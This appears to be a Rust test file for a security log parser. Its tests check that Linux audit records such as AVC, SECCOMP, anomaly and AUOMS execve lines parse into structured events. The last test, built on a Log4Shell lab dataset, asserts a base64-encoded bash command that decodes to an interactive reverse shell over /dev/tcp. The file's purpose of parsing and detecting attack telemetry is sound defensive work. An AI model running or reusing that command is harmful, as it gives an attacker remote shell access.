//! Records that are no program start, whatever wrote them: all that they say comes out.

use serde_json::{Value, json};
use trailhound::model::Kind;

use super::{Told, lines, shared};

/// Every `key=value` of a line, parted as people would; a nested message's among them.
fn pairs(line: &str) -> Vec<(String, String)> {
    let body = line
        .split_once("): ")
        .unwrap()
        .1
        .replace("msg='", "")
        .replace('\x1d', " ");
    let mut all = Vec::new();
    let mut rest = body.trim_end_matches('\'');
    while let Some((before, after)) = rest.split_once('=') {
        let key = before.rsplit(' ').next().unwrap();
        let (value, next) = match after.strip_prefix('"') {
            Some(quoted) => quoted.split_once('"').unwrap(),
            None => after.split_once(' ').unwrap_or((after, "")),
        };
        all.push((key.to_owned(), value.trim_matches('\'').to_owned()));
        rest = next;
    }
    all
}

/// The line alone is an event of its own with all of its fields.
fn survives(line: &str) -> Told {
    let told = lines(line);
    assert!(told.rejects.is_empty(), "{line}");
    let record = told.records()[0].clone();
    let kind = line
        .split("type=")
        .nth(1)
        .unwrap()
        .split(' ')
        .next()
        .unwrap();
    assert_eq!(record["type"], kind);
    let mut seen = std::collections::BTreeMap::<String, usize>::new();
    for (key, value) in pairs(line) {
        let times = seen.entry(key.clone()).or_default();
        *times += 1;
        let name = match *times {
            1 => key,
            n => format!("{key}_{n}"),
        };
        assert_eq!(record[&name], json!(value), "{name} of {line}\n{record}");
    }
    told
}

#[test]
fn avc() {
    let told = survives(
        r#"type=AVC msg=audit(1243332701.744:101): avc:  denied  { read write open } for  pid=2714 comm="ls" path="/usr/lib/locale/locale-archive" dev=dm-0 ino=353593 scontext=system_u:object_r:unlabeled_t:s0 tcontext=system_u:object_r:locale_t:s0 tclass=file permissive=0"#,
    );
    assert_eq!(told.words(), "avc: denied { read write open } for");
    survives(
        r#"type=AVC msg=audit(1668191154.949:64): apparmor="DENIED" operation="exec" profile="profile-name" name="/usr/local/bin/sample-app" pid=4166 comm="tini" requested_mask="x" denied_mask="x" fsuid=65534 ouid=0"#,
    );
    let told = survives(
        r#"type=USER_AVC msg=audit(1.000:2): pid=700 uid=81 auid=4294967295 ses=4294967295 subj=system_u:system_r:system_dbusd_t:s0 msg='avc:  denied  { send_msg } for msgtype=method_call interface=org.x dest=:1.2 spid=9 tpid=8 scontext=a tcontext=b tclass=dbus exe="/usr/bin/dbus-daemon" sauid=81 hostname=? addr=? terminal=?'"#,
    );
    assert_eq!(told.words(), "avc: denied { send_msg } for");
}

#[test]
fn seccomp() {
    survives(
        r#"type=SECCOMP msg=audit(1613596317.899:6461): auid=4294967295 uid=0 gid=0 ses=4294967295 subj=system_u:system_r:spc_t:s0:c284,c594 pid=2039886 comm="ls" exe="/bin/ls" sig=0 arch=c000003e syscall=3 compat=0 ip=0x7f62dce3d4c7 code=0x7ffc0000"#,
    );
}

#[test]
fn anomalies() {
    survives(
        r#"type=ANOM_ABEND msg=audit(1423234994.398:911150): auid=4294967295 uid=48 gid=48 ses=4294967295 subj=system_u:system_r:httpd_t:s0 pid=31242 comm="httpd" reason="memory violation" sig=11"#,
    );
    survives(
        r#"type=ANOM_PROMISCUOUS msg=audit(1390181243.575:738): dev=vethDvSeyL prom=256 old_prom=0 auid=4294967295 uid=0 gid=0 ses=4294967295"#,
    );
    survives(
        r#"type=ANOM_LINK msg=audit(1.000:3): op=follow_link ppid=1 pid=2 auid=1000 uid=0 comm="cat" exe="/bin/cat" res=0"#,
    );
    survives(
        r#"type=ANOM_LOGIN_FAILURES msg=audit(1.000:4): pid=9 uid=0 auid=4294967295 ses=4294967295 msg='pam_tally2 uid=1000 exe="/usr/sbin/sshd" hostname=h addr=192.0.2.1 terminal=ssh res=success'"#,
    );
}

#[test]
fn uringop() {
    survives(
        r#"type=URINGOP msg=audit(1704225001.529:2391): uring_op=18 success=yes exit=0 items=0 ppid=9 pid=7 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 key=(null)"#,
    );
}

#[test]
fn mac_crypto_virt() {
    for line in [
        r#"type=MAC_IPSEC_EVENT msg=audit(1.000:5): op=SAD-add auid=4294967295 ses=4294967295 subj=system_u:system_r:unconfined_t:s0 sec_alg=1 sec_doi=1 sec_obj=a src=192.0.2.1 dst=192.0.2.2 spi=1(0x1) res=1"#,
        r#"type=MAC_STATUS msg=audit(1.000:6): enforcing=0 old_enforcing=1 auid=1000 ses=2"#,
        r#"type=CRYPTO_KEY_USER msg=audit(1.000:7): pid=1298 uid=0 auid=4294967295 ses=4294967295 msg='op=destroy kind=server fp=SHA256:42:c3 direction=? spid=1299 suid=74 exe="/usr/sbin/sshd" hostname=? addr=192.0.2.1 terminal=? res=success'"#,
        r#"type=CRYPTO_SESSION msg=audit(1.000:8): pid=1298 uid=0 auid=4294967295 ses=4294967295 msg='op=start direction=from-client cipher=aes128-ctr ksize=128 rport=63927 laddr=192.0.2.9 lport=22 id=4294967295 exe="/usr/sbin/sshd" hostname=? addr=192.0.2.1 terminal=? res=success'"#,
        r#"type=VIRT_CONTROL msg=audit(1.000:9): pid=1525 uid=0 auid=4294967295 ses=4294967295 msg='virt=kvm op=start reason=booted vm="rhel-work3" uuid=650c2a3b vm-pid=7141 exe="/usr/sbin/libvirtd" hostname=? addr=? terminal=? res=success'"#,
    ] {
        survives(line);
    }
    let told = survives("type=MAC_POLICY_LOAD msg=audit(1.000:10): policy loaded auid=1000 ses=2");
    assert_eq!(told.words(), "policy loaded");
}

#[test]
fn container_ids() {
    survives("type=CONTAINER_ID msg=audit(1.000:11): contid=123456789");
    survives(
        "type=CONTAINER_OP msg=audit(1.000:12): op=set opid=57 contid=123456789 old-contid=18446744073709551615",
    );
}

#[test]
fn words_without_a_value() {
    for (line, text) in [
        (
            "type=DAEMON_END msg=audit(1.000:13): auditd normal halt, sending auid=0 pid=1 res=success",
            "auditd normal halt, sending",
        ),
        (
            "type=KERNEL msg=audit(1.000:14): initialized",
            "initialized",
        ),
        (
            "type=USER_CHAUTHTOK msg=audit(1.000:15): pid=1 uid=0 msg='op=changing password acct=\"a\" exe=\"/x\" res=success'",
            "password",
        ),
        (
            "type=SELINUX_ERR msg=audit(1.000:16): security_compute_sid:  invalid context a:b for scontext=c",
            "security_compute_sid: invalid context a:b for",
        ),
    ] {
        assert_eq!(lines(line).words(), text);
    }
}

#[test]
fn the_kernels_numeric_form_with_printk_time() {
    for head in [
        "audit: ",
        "[  131.449] audit: ",
        "<5>[  131.449] audit: ",
        "Nov 22 03:40:11 web01 kernel: [  131.449] audit: ",
    ] {
        let told = lines(&format!(
            "{head}type=1326 audit(1611996299.149:466250): auid=4294967295 uid=0 pid=615549 comm=\"sh\" exe=\"/bin/busybox\" sig=0 arch=c000003e syscall=1 compat=0 ip=0x7f61a81c5923 code=0x7ffc0000"
        ));
        let record = &told.records()[0];
        assert_eq!(
            (&record["type"], &record["comm"]),
            (&json!("SECCOMP"), &json!("sh")),
            "{head}"
        );
    }
}

#[test]
fn audit_without_msg() {
    let told = lines("type=USER audit(1.000:1): pid=7");
    assert_eq!(told.records()[0]["pid"], "7");
}

const AUOMS: &str = r#"type=AUOMS_EXECVE audit(1652292621.990:84143): SchemaVersion="1" auoms_version=2.5.2.0 node=web01 arch=x86_64 syscall=execve syscall_r=59 success=yes exit=0 a0=1 ppid=1340 pid=17790 audit_user=unset auid=4294967295 user=tomcat uid=1001 group=tomcat gid=1001 effective_user=tomcat euid=1001 tty=(none) ses="-1" comm="bash" exe="/bin/bash" key=auoms,delete key_r=61756F6D730164656C657465 cwd="/" name="/bin/bash" inode=31 argc=3 cmdline="bash -c "{echo,YmFzaA==}|{base64,-d}"" redactors= containerid="#;

#[test]
fn auoms_execve() {
    let told = lines(AUOMS);
    let event = told.only(Kind::Process);
    assert_eq!(event["unmapped"]["complete"], true);
    assert_eq!(
        event["unmapped"]["argv"],
        json!(["bash", "-c", "{echo,YmFzaA==}|{base64,-d}"])
    );
    let process = &event["process"];
    assert_eq!(
        (&process["path"], &process["pid"]),
        (&json!("/bin/bash"), &json!(17790))
    );
    assert_eq!(process["working_directory"], "/");
    assert_eq!(process["user"], json!({ "name": "tomcat", "uid": "1001" }));
    assert_eq!(process["parent_process"]["pid"], 1340);
    assert_eq!(event["metadata"]["labels"], json!(["auoms", "delete"]));
    assert!(process["session"].is_null() && process["auid"].is_null());
    // One that failed is no start, and one that lost arguments says so.
    let failed = lines(&AUOMS.replace("success=yes", "success=no"));
    assert!(failed.of(Kind::Process).is_empty() && failed.of(Kind::Audit).len() == 1);
    let cut = lines(&AUOMS.replace("argc=3", "argc=5"));
    let event = cut.only(Kind::Process);
    assert_eq!(
        (&event["unmapped"]["cut"], &event["unmapped"]["missing"]),
        (&json!("at_source"), &json!(["arguments"]))
    );
}

#[test]
fn auoms_execve_of_log4shell() {
    let Some(text) = shared("corpus/audit/otrf/auoms_log4shell.part1.jsonl") else {
        return;
    };
    let told = lines(std::str::from_utf8(&text).unwrap());
    assert!(told.rejects.is_empty());
    let rows = text.split(|b| *b == b'\n').filter(|row| !row.is_empty());
    let rows: Vec<Value> = rows
        .map(|row| serde_json::from_slice(row).unwrap())
        .collect();
    let started = rows
        .iter()
        .filter(|row| row["EventData"].as_str().unwrap().contains("success=yes"));
    let all = told.of(Kind::Process);
    assert_eq!(
        (all.len(), told.of(Kind::Audit).len()),
        (started.count(), 33 - all.len())
    );
    for event in &all {
        assert_eq!(event["unmapped"]["complete"], true, "{event}");
        assert_eq!(event["device"]["hostname"], "UBUNTU5");
    }
    let first = &all[0]["unmapped"]["argv"];
    assert_eq!(
        *first,
        json!([
            "bash",
            "-c",
            "{echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMTY4LjIuNi80NDMgMD4mMQo=}|{base64,-d}|{bash,-i}"
        ])
    );
}
